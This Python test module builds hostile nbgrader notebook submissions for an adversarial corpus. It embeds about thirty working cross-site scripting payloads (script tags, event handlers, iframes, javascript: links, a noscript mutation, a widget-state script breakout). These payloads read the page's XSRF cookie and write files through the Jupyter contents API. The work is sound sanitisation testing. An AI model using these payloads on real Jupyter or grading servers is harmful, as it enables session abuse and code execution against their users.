"""Hostile content for the adversarial corpus: submissions whose outputs and written answers
try to run JavaScript in whatever renders them (the formgrader, the feedback HTML, JupyterLab).

Every payload, if it ran, would leave a trace a test can look for: its JavaScript appends
its tag to `top.__pwned` and writes `pwned-<tag>.txt` through the Jupyter contents API with
the page's XSRF cookie, as a real attack would (it could as well start a kernel); payloads
that cannot reach the page (data: frames) post `pwned-<tag>` to it, and the ones that only
load or navigate do so to a URL containing `pwned-<tag>`. Otherwise the submissions are the
reference answers, so they must score exactly what the reference scores.
"""
from __future__ import annotations

import base64
import copy
from dataclasses import dataclass

import nbformat

MARKER = "pwned-"


@dataclass(frozen=True)
class Payload:
    tag: str     # what it leaves behind: top.__pwned entry, pwned-<tag> file, request or message
    what: str    # the technique, in words
    code: str    # a Python line displaying it (outputs) or Markdown text (written answers)


def script(tag: str) -> str:
    """JavaScript that marks the page and writes a file through the contents API (no double
    quotes, spaces or angle brackets, so it fits an attribute, a URL or a script tag)."""
    return (f"top.__pwned=(top.__pwned||[]).concat('{tag}');"
            f"fetch('/api/contents/{MARKER}{tag}.txt',{{method:'PUT',headers:{{'Content-Type':'application/json',"
            "'X-XSRFToken':(document.cookie.split('_xsrf=')[1]||'').split(';')[0]},"
            f"body:JSON.stringify({{type:'file',format:'text',content:'{tag}'}})}})")


def _message_page(tag: str) -> str:
    """An HTML page for a data: URL: it runs in its own origin, so it can only post a message."""
    return f"<script>top.postMessage('{MARKER}{tag}','*')</script>"


def _show(tag: str, what: str, markup: str, kind: str = "HTML") -> Payload:
    """A payload displayed as `kind` (an IPython.display class, or a widget) in an output."""
    return Payload(tag, what, f"display({kind}({markup!r}))")



def _output_payloads() -> list[Payload]:
    js = {tag: script(tag) for tag in (f"o{i}" for i in range(1, 19))}
    page = base64.b64encode(_message_page("o6").encode()).decode()
    return [
        _show("o1", "a script tag in an HTML output", f"<script>{js['o1']}</script>"),
        _show("o2", "an onerror handler on an image", f'<img src="x-o2" onerror="{js["o2"]}">'),
        _show("o3", "an onload handler on inline SVG", f'<svg onload="{js["o3"]}"></svg>'),
        _show("o4", "an iframe with srcdoc", f'<iframe srcdoc="<script>{js["o4"]}</script>"></iframe>'),
        _show("o5", "an iframe with a data: URL",
              f'<iframe src="data:text/html,{_message_page("o5")}"></iframe>'),
        _show("o6", "object and embed", f'<object data="data:text/html;base64,{page}"></object>'
                                         f'<embed src="/{MARKER}o6.svg">'),
        _show("o7", "a meta refresh", f'<meta http-equiv="refresh" content="0;url=/{MARKER}o7">'),
        _show("o8", "a javascript: link", f'<a href="javascript:{js["o8"]}">o8</a>'),
        _show("o9", "CSS that loads URLs", f'<style>@import url("/{MARKER}o9.css");</style>'
                                           f'<div style="background-image:url(/{MARKER}o9.png)">o9</div>'),
        _show("o10", "a JavaScript output", js["o10"], kind="Javascript"),
        _show("o11", "an SVG output with a script and a handler",
              f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js["o11"]}"><script>{js["o11"]}</script></svg>',
              kind="SVG"),
        _show("o12", "a Markdown output with raw HTML and a javascript: link",
              f'Markdown <img src="x-o12" onerror="{js["o12"]}"> and [a link](javascript:{js["o12"]})',
              kind="Markdown"),
        _show("o13", "an HTML widget (widget view and widget state)",
              f'<img src="x-o13" onerror="{js["o13"]}">', kind="ipywidgets.HTML"),
        _show("o14", "an autofocus onfocus handler", f'<input autofocus onfocus="{js["o14"]}">'),
        _show("o15", "a details ontoggle handler",
              f'<details open ontoggle="{js["o15"]}"><summary>o15</summary>more</details>'),
        _show("o16", "a base element redirecting relative URLs", f'<base href="/{MARKER}o16/">'),
        _show("o17", "a style sheet link and a remote image",
              f'<link rel="stylesheet" href="/{MARKER}o17.css"><img src="/{MARKER}o17.png">'),
        _show("o18", "a form whose button runs a javascript: action",
              f'<form action="javascript:{js["o18"]}"><button id="o18" autofocus>o18</button></form>'
              f'<img src="x-o18" onerror="document.getElementById(\'o18\').click()">'),
        _show("o19", "noscript mutation (a tag hidden in an attribute)",
              '<noscript><p title="</noscript><img src=x-o19 onerror=top.__pwned=/o19/.source>"></p></noscript>'),
    ]


def _answer_payloads() -> list[Payload]:
    js = {tag: script(tag) for tag in (f"a{i}" for i in range(1, 14))}
    return [
        Payload("a1", "an image with an onerror handler in a written answer", f'<img src="x-a1" onerror="{js["a1"]}">'),
        Payload("a2", "a script block in a written answer", f"<script>{js['a2']}</script>"),
        Payload("a3", "a Markdown javascript: link", f"[see this](javascript:{js['a3']})"),
        Payload("a4", "an iframe with srcdoc in a written answer", f'<iframe srcdoc="<script>{js["a4"]}</script>"></iframe>'),
        Payload("a5", "inline SVG with onload in a written answer", f'<svg onload="{js["a5"]}"></svg>'),
        Payload("a6", "details ontoggle in a written answer",
                f'<details open ontoggle="{js["a6"]}"><summary>a6</summary>more</details>'),
        Payload("a7", "CSS that loads a URL in a written answer",
                f'<div style="background-image:url(/{MARKER}a7.png)">a7</div>'),
        Payload("a8", "a meta refresh in a written answer", f'<meta http-equiv="refresh" content="0;url=/{MARKER}a8">'),
        Payload("a9", "object and embed in a written answer",
                f'<object data="/{MARKER}a9.html"></object><embed src="/{MARKER}a9.svg">'),
        Payload("a10", "an iframe with a data: URL in a written answer",
                f'<iframe src="data:text/html,{_message_page("a10")}"></iframe>'),
        Payload("a11", "raw HTML in a Markdown cell the student added", f'<img src="x-a11" onerror="{js["a11"]}">'),
        Payload("a12", "widget state in the notebook's metadata closing its script tag",
                f"</script><script>{js['a12']}</script>"),
        Payload("a13", "a raw HTML javascript: link in a written answer", f'<a href="javascript:{js["a13"]}">a13</a>'),
    ]


OUTPUT_PAYLOADS = _output_payloads()
ANSWER_PAYLOADS = _answer_payloads()
PAYLOADS = OUTPUT_PAYLOADS + ANSWER_PAYLOADS
# The written answers the payloads go into (each keeps the student's own text after them).
WRITTEN = ("answer_unique", "answer_compare", "answer_regularizers")


def _cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def in_outputs(reference: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The reference submission whose first answer cell displays every output payload."""
    nb = copy.deepcopy(reference)
    cell = _cell(nb, "svm_loss_naive")
    lines = ["from IPython.display import HTML, SVG, Javascript, Markdown, display", "import ipywidgets",
             *(p.code for p in OUTPUT_PAYLOADS)]
    cell.source = "\n".join(lines) + "\n\n" + cell.source
    return nb


def in_answers(reference: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The reference submission with the answer payloads in its written answers, in a Markdown
    cell it adds, and in the widget state of its metadata."""
    nb = copy.deepcopy(reference)
    by_tag = {p.tag: p.code for p in ANSWER_PAYLOADS}
    groups = (["a1", "a2", "a3", "a4"], ["a5", "a6", "a7", "a8", "a13"], ["a9", "a10"])
    for grade_id, tags in zip(WRITTEN, groups):
        cell = _cell(nb, grade_id)
        # The first payload inline in the prose, the others as blocks of their own.
        first, *rest = tags
        cell.source = f"{cell.source}\n\nSee also {by_tag[first]} here.\n\n" + "\n\n".join(by_tag[t] for t in rest)
    added = nbformat.v4.new_markdown_cell(f"A note of mine: {by_tag['a11']}", id="student-note")
    nb.cells.insert(nb.cells.index(_cell(nb, "answer_unique")) + 1, added)
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {"x": {"model_name": by_tag["a12"]}}}}
    return nb
